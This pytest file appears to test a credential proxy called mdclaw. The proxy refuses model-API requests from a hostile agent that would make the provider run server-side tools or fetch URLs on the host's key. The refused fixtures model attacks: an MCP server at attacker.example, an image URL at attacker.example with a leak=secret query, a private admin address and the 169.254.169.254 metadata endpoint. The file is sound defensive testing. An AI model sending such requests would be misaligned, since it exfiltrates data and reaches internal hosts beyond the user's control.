"""A hostile agent cannot make the model API run tools or fetch URLs itself on the host's key
(mdclaw.toolpolicy): the real credential proxy on a group's socket, a raw HTTP client as the
agent, fake upstreams that record what reached them."""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any

import pytest

from agent_helpers import ProxyThread
from fake_models import FakeAnthropic, FakeOpenAI
from mdclaw.config import load_config
from mdclaw.models import Upstream
from mdclaw.paths import Layout
from mdclaw.state import Database
from mdclaw.toolpolicy import server_side_use
from mdclaw.usage import usage_rows
from test_proxy_limits import raw_http

KEY = "sk-ant-server-tools-0123456789abcdefghij"
HI = [{"role": "user", "content": "hi"}]


def claude_body(**extra: Any) -> bytes:
    return json.dumps({"model": "x", "max_tokens": 20, "messages": HI, **extra}).encode()


def url_block(kind: str, url: str) -> dict[str, Any]:
    return {"type": kind, "source": {"type": "url", "url": url}}


# Each a request that makes Anthropic's servers act for the agent.
CLAUDE_REFUSED: dict[str, dict[str, Any]] = {
    "web_search": {"tools": [{"type": "web_search_20250305", "name": "web_search",
                              "max_uses": 5}]},
    "web_search, newer": {"tools": [{"type": "web_search_20260209", "name": "web_search"}]},
    "web_fetch": {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    "code_execution": {"tools": [{"type": "code_execution_20250825",
                                  "name": "code_execution"}]},
    "advisor": {"tools": [{"type": "advisor_20260301", "name": "advisor",
                           "model": "claude-opus-4-1"}]},
    "tool_search": {"tools": [{"type": "tool_search_tool_regex_20251119",
                               "name": "tool_search_tool_regex"}]},
    "computer": {"tools": [{"type": "computer_20250124", "name": "computer",
                            "display_width_px": 1024, "display_height_px": 768}]},
    "bash": {"tools": [{"type": "bash_20250124", "name": "bash"}]},
    "text_editor": {"tools": [{"type": "text_editor_20250728",
                               "name": "str_replace_based_edit_tool"}]},
    "a type made up later": {"tools": [{"type": "teleport_20300101", "name": "t"}]},
    "a server tool behind a custom one": {"tools": [
        {"name": "send_message", "input_schema": {"type": "object"}},
        {"type": "web_fetch_20250910", "name": "web_fetch"}]},
    "mcp_servers and mcp_toolset": {
        "mcp_servers": [{"type": "url", "url": "https://attacker.example/mcp", "name": "x"}],
        "tools": [{"type": "mcp_toolset", "mcp_server_name": "x"}]},
    "mcp_servers alone": {"mcp_servers": []},
    "container": {"container": {"skills": [{"type": "anthropic", "skill_id": "pdf"}]}},
    "an image by URL": {"messages": [{"role": "user", "content": [
        url_block("image", "https://attacker.example/?leak=secret")]}]},
    "a document by URL in a tool result": {"messages": [
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": [
            url_block("document", "http://192.168.1.1/admin")]}]}]},
}
OPENAI_REFUSED: dict[str, dict[str, Any]] = {
    "web_search_options": {"web_search_options": {}},
    "a web_search tool": {"tools": [{"type": "web_search"}]},
    "a file_search tool": {"tools": [{"type": "file_search", "vector_store_ids": ["v"]}]},
    "a tool without a type": {"tools": [{"function": {"name": "f"}}]},
    "plugins (a router's web search)": {"plugins": [{"id": "web"}]},
    "an image by URL": {"messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "http://169.254.169.254/latest/"}}]}]},
}
# What agents use every turn: tools they run themselves, and their results.
CLAUDE_PASSES: dict[str, dict[str, Any]] = {
    "custom tools": {"tools": [
        {"name": "send_message", "description": "d", "input_schema": {"type": "object"}},
        {"type": "custom", "name": "Bash", "input_schema": {"type": "object"}}],
        "tool_choice": {"type": "auto"}},
    "a tool-use round trip": {"messages": [
        {"role": "user", "content": "list files"},
        {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "Bash",
                                           "input": {"source": {"type": "url"}}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1",
                                      "content": [{"type": "text", "text": "a b"}]}]}],
        "tools": [{"name": "Bash", "input_schema": {"type": "object"}}]},
    "an image as base64": {"messages": [{"role": "user", "content": [
        {"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                     "data": "iVBORw0KGgo="}}]}]},
}
OPENAI_PASSES: dict[str, dict[str, Any]] = {
    "function and custom tools": {"tools": [
        {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}},
        {"type": "custom", "custom": {"name": "g"}}]},
    "an image as a data URL": {"messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]}]},
}


@pytest.fixture
def env(tmp_path: Path):
    layout = Layout(tmp_path / "d")
    db = Database(layout.db_path)
    key = tmp_path / "key"
    key.write_text(KEY + "\n")
    key.chmod(0o600)
    proxy = ProxyThread(layout, db)
    yield proxy, db, key
    proxy.close()
    db.close()


def start(proxy: ProxyThread, upstream: Upstream, budget: int | None = None) -> Path:
    return proxy.call(proxy.proxy.start_group("family", upstream, tokens_per_day=budget))


def test_anthropic_server_tools_are_refused_and_cost_nothing(env, caplog) -> None:
    proxy, db, key = env
    caplog.set_level(logging.WARNING, logger="mdclaw.proxy")
    with FakeAnthropic(usage=(40, 20)) as up:
        sock = start(proxy, Upstream("claude", "claude-x", up.url, key), budget=100)
        replies = {name: raw_http(sock, "POST", "/v1/messages", claude_body(**extra))
                   for name, extra in CLAUDE_REFUSED.items()}
        reached = len(up.requests)
        in_flight = proxy.proxy.budget.reserved("family")
        # The budget is whole: an ordinary request still goes (60 of 100 tokens).
        after = raw_http(sock, "POST", "/v1/messages", claude_body())[0]
        caps = proxy.proxy.caps("family")
    assert reached == 0
    for name, (status, _headers, raw) in replies.items():
        assert status == 403, name
        err = json.loads(raw)
        assert err["type"] == "error", name
        assert err["error"]["type"] == "mdclaw_server_tools_refused", name
        assert "allow_server_tools: true" in err["error"]["message"], name
    says = {n: json.loads(r[2])["error"]["message"] for n, r in replies.items()}
    assert '"web_search_20250305"' in says["web_search"]
    assert "`mcp_servers`" in says["mcp_servers alone"]
    assert "`container`" in says["container"]
    assert '"document" block fetched by URL' in says["a document by URL in a tool result"]
    assert in_flight == (0, 0)
    assert after == 200
    assert caps is not None and caps["server_tools_refused"] == len(CLAUDE_REFUSED)
    assert caps["over_budget"] == 0
    proxy.flush()
    [row] = usage_rows(db)  # only the request that went
    assert (row["requests"], row["input_tokens"], row["output_tokens"]) == (1, 40, 20)
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "group family: refused a model request that asks the API to run tools" in logged
    assert KEY not in logged and KEY not in caplog.text


def test_openai_hosted_tools_and_web_search_options_are_refused(env) -> None:
    proxy, db, key = env
    with FakeOpenAI() as up:
        sock = start(proxy, Upstream("openai", "gpt-x", up.url + "/v1", key), budget=100)
        replies = {name: raw_http(sock, "POST", "/v1/chat/completions", json.dumps(
                       {"model": "x", "messages": HI, **extra}).encode())
                   for name, extra in OPENAI_REFUSED.items()}
        reached = len(up.requests)
    assert reached == 0
    for name, (status, _, raw) in replies.items():
        assert status == 403, name
        assert json.loads(raw)["error"]["type"] == "mdclaw_server_tools_refused", name
    assert "`web_search_options`" in json.loads(replies["web_search_options"][2])[
        "error"]["message"]


def test_ordinary_tool_use_passes_untouched(env) -> None:
    proxy, _db, key = env
    with FakeAnthropic() as up:
        sock = start(proxy, Upstream("claude", "claude-x", up.url, key))
        for name, extra in CLAUDE_PASSES.items():
            assert raw_http(sock, "POST", "/v1/messages", claude_body(**extra))[0] == 200, name
        seen = [r.body for r in up.requests]
    assert [b["tools"] for b in seen if "tools" in b] == [
        CLAUDE_PASSES["custom tools"]["tools"], CLAUDE_PASSES["a tool-use round trip"]["tools"]]
    with FakeOpenAI() as up:
        sock = start(proxy, Upstream("openai", "gpt-x", up.url + "/v1", key))
        for name, extra in OPENAI_PASSES.items():
            status = raw_http(sock, "POST", "/v1/chat/completions", json.dumps(
                {"model": "x", "messages": HI, **extra}).encode())[0]
            assert status == 200, name
        assert len(up.requests) == len(OPENAI_PASSES)


def test_allow_server_tools_lets_them_through(env) -> None:
    proxy, _db, key = env
    with FakeAnthropic() as up:
        sock = start(proxy, Upstream("claude", "claude-x", up.url, key,
                                     allow_server_tools=True))
        for name, extra in CLAUDE_REFUSED.items():
            assert raw_http(sock, "POST", "/v1/messages", claude_body(**extra))[0] == 200, name
        seen = up.requests[0].body
    assert seen["tools"] == CLAUDE_REFUSED["web_search"]["tools"]
    assert seen["model"] == "claude-x"  # the pin still holds
    with FakeOpenAI() as up:
        sock = start(proxy, Upstream("openai", "gpt-x", up.url + "/v1", key,
                                     allow_server_tools=True))
        status = raw_http(sock, "POST", "/v1/chat/completions", json.dumps(
            {"model": "x", "messages": HI, "web_search_options": {}}).encode())[0]
    assert status == 200


def test_count_tokens_is_not_an_answer(env) -> None:
    """count_tokens runs nothing: a client may count a request's tools before sending it."""
    proxy, _db, key = env
    with FakeAnthropic() as up:
        sock = start(proxy, Upstream("claude", "claude-x", up.url, key))
        status = raw_http(sock, "POST", "/v1/messages/count_tokens",
                          claude_body(**CLAUDE_REFUSED["web_search"]))[0]
    assert status == 200


def test_the_config_key_reaches_the_proxy(env, write_config) -> None:
    """`models.<m>.allow_server_tools` from the config, per model: one group's model has it,
    the other's not."""
    proxy, _db, _key = env
    with FakeAnthropic() as up:
        cfg = load_config(write_config(f"""\
            data_dir: {{data_dir}}
            models:
              open: {{backend: claude, model: claude-x, base_url: "{up.url}",
                      allow_server_tools: true}}
              shut: {{backend: claude, model: claude-y, base_url: "{up.url}"}}
            groups:
              main: {{name: M, jid: "hl:m", main: true, model: open}}
              family: {{name: F, jid: "hl:f", model: shut}}
            """))
        body = claude_body(**CLAUDE_REFUSED["web_fetch"])
        got = {}
        for folder in ("main", "family"):
            sock = proxy.call(proxy.proxy.start_for_config(cfg, folder))
            got[folder] = raw_http(sock, "POST", "/v1/messages", body)[0]
        assert [r.body["model"] for r in up.requests] == ["claude-x"]
    assert got == {"main": 200, "family": 403}
    assert cfg.models["open"].allow_server_tools and not cfg.models["shut"].allow_server_tools


@pytest.mark.parametrize("backend, sent", [
    ("claude", {"tools": "web_search"}),  # not a list: the API refuses it itself
    ("claude", {"tools": [None, 3, "x"]}),
    ("claude", {"messages": [{"role": "user", "content": "a source: url"}]}),
    ("claude", {"messages": "x"}),
    ("openai", {"messages": [{"role": "user", "content": [{"type": "text", "text": "u"}]}]}),
    ("openai", {"tools": []}),
])
def test_shapes_that_run_nothing_are_not_refused(backend, sent) -> None:
    assert server_side_use(backend, sent) is None


def test_an_agent_chosen_type_is_shown_short_and_quoted() -> None:
    found = server_side_use("claude", {"tools": [{"type": "x\n" * 200}]})
    assert found is not None and "\n" not in found and len(found) < 100
